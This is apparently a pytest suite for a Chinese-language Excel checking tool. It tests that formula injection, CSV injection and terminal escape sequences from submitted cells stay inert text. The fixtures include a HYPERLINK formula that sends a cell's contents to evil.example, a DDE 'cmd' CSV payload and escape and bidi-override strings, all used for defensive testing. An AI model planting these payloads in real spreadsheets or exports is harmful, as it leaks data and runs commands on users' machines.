"""Hostile suite, injection: text from a submission stays text in every file the tool writes (annotated
copy, repaired workbook, Excel report, CSV export, JSON), and control characters from cells neither
crash openpyxl nor reach the terminal raw: they are removed and reported at their cell."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hostile import PLACEHOLDER, swap_placeholder
from officialish import default_blocks, official_workbook

from youzhi.cli import TerminalSafe, main
from youzhi.safety import CSV_TRIGGERS, csv_field, put_value, terminal_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"點我")'
ESCAPE = "諮詢費\x1b[2J\x1b]0;pwned\x07\x00"


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A good workbook whose first line's item, unit and purpose are PLACEHOLDER."""
    blocks = default_blocks()
    line = blocks[next(iter(blocks))][0]
    line.update(item=PLACEHOLDER, unit=PLACEHOLDER, purpose=PLACEHOLDER)
    return official_workbook(tmp_path_factory.mktemp("tpl") / "tpl.xlsx", blocks=blocks)


@pytest.fixture
def formula_file(template, tmp_path) -> Path:
    return swap_placeholder(tmp_path / "formula.xlsx", template, FORMULA)


@pytest.fixture
def escape_file(template, tmp_path) -> Path:
    return swap_placeholder(tmp_path / "escape.xlsx", template, ESCAPE)


def formulas(path: Path) -> list[str]:
    """Every formula text in every worksheet of a written file."""
    with zipfile.ZipFile(path) as archive:
        return [
            f.decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
            for f in re.findall(rb"<f[^>]*>([^<]*)</f>", archive.read(name))
        ]


def test_annotated_result_sheet_keeps_submitted_text_as_text(formula_file, tmp_path):
    out = tmp_path / "annotated.xlsx"
    assert main(["check", str(formula_file), "--annotate", str(out)]) in (0, 1)
    assert not [f for f in formulas(out) if "HYPERLINK" in f]
    ws = openpyxl.load_workbook(out)["檢核結果"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts)  # the finding quotes it, as text
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_repair_keeps_school_name_and_codes_as_text(formula_file, tmp_path):
    out = tmp_path / "repaired.xlsx"
    assert main(["repair", str(formula_file), "-o", str(out), "--school", "=1+2"]) == 0
    wb = openpyxl.load_workbook(out)
    school = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == "=1+2"]
    assert school and all(c.data_type == "s" for c in school)
    assert not [f for f in formulas(out) if "HYPERLINK" in f or f == "1+2"]


def test_put_value_fires_on_formula_text_and_is_quiet_on_numbers_and_plain_text():
    ws = openpyxl.Workbook().active
    for col, value in enumerate(["=SUM(A1:A9)", "+1", 12.5, "諮詢費"], start=1):
        put_value(ws.cell(1, col), value)
    assert [ws.cell(1, c).data_type for c in range(1, 5)] == ["s", "s", "n", "s"]
    assert ws.cell(1, 1).value == "=SUM(A1:A9)"


def test_report_json_and_csv_keep_text_inert(formula_file, tmp_path, capsys):
    report, lines = tmp_path / "r.xlsx", tmp_path / "lines.csv"
    code = main(["batch", str(formula_file), "-o", str(report), "--export", str(lines), "--json"])
    assert code in (0, 1)
    payload = json.loads(capsys.readouterr().out)
    assert payload["counts"]["files"] == 1  # JSON escapes whatever it quotes
    assert not formulas(report)  # the report has no formula at all
    rows = list(csv.reader(io.StringIO(lines.read_text(encoding="utf-8-sig"))))
    hostile = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert hostile and all(cell == "'" + FORMULA for cell in hostile)
    numbers = [cell for row in rows[1:] for cell in row if re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert numbers  # quantities and amounts stay plain numbers


def test_csv_guard_fires_on_each_trigger_and_is_quiet_otherwise():
    for trigger in CSV_TRIGGERS:
        assert csv_field(trigger + "cmd|' /C calc'!A0") == "'" + trigger + "cmd|' /C calc'!A0"
    assert csv_field("諮詢費") == "諮詢費" and csv_field(-5) == -5 and csv_field(None) is None


def test_control_characters_are_removed_and_reported_at_their_cell(escape_file, capsys):
    assert main(["check", str(escape_file), "--json"]) in (0, 1)
    findings = json.loads(capsys.readouterr().out)["findings"]
    hits = [f for f in findings if "控制字元" in f["message"]]
    assert {(f["sheet"], f["cell"]) for f in hits} >= {("A(8-12月)", "B6"), ("A(8-12月)", "C6")}
    assert "\x1b" not in json.dumps(findings)


def test_control_characters_do_not_crash_annotate_or_repair(escape_file, tmp_path, capsys):
    assert main(["check", str(escape_file), "--annotate", str(tmp_path / "a.xlsx")]) in (0, 1)
    assert main(["repair", str(escape_file), "-o", str(tmp_path / "r.xlsx")]) == 0
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err and "Traceback" not in out.err
    assert "已移除控制字元" in out.out
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb["A(8-12月)"]["B6"].value == "諮詢費[2J]0;pwned"


def test_clean_file_has_no_control_finding(template, tmp_path, capsys):
    plain = swap_placeholder(tmp_path / "plain.xlsx", template, "諮詢費")
    assert main(["check", str(plain), "--json"]) in (0, 1)
    assert "控制字元" not in capsys.readouterr().out


def test_terminal_never_receives_escape_sequences():
    sink = io.StringIO()
    TerminalSafe(sink).write("項目 \x1b[31m紅\x9b2J \u202egnp.exe\r\n")
    assert sink.getvalue() == "項目 \\x1b[31m紅\\x9b2J \\u202egnp.exe\\x0d\n"
    assert terminal_text("行一\n\t行二") == "行一\n\t行二"
    assert terminal_text("進度\r", keep_cr=True) == "進度\r"
